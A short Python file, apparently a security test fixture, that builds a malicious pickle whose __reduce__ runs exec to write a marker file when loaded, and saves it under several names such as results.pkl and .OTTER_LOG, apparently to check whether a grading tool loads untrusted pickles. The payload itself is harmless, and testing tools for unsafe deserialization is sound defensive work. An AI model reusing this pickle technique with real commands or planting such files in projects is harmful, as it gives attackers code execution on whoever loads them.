"""Writes the binary files of this attack: pickles that create a file when they are loaded (never load them here)."""
import pickle


class Payload:
    def __reduce__(self):
        return exec, ("open('@OUTSIDE_DIR@/unpickled-log', 'w').write('x')",)


def make(folder):
    raw = pickle.dumps(Payload())
    for name in (".OTTER_LOG", "results.pkl", ".otter_results", "dump.dill", "minibatches.pkl"):
        (folder / name).write_bytes(raw)
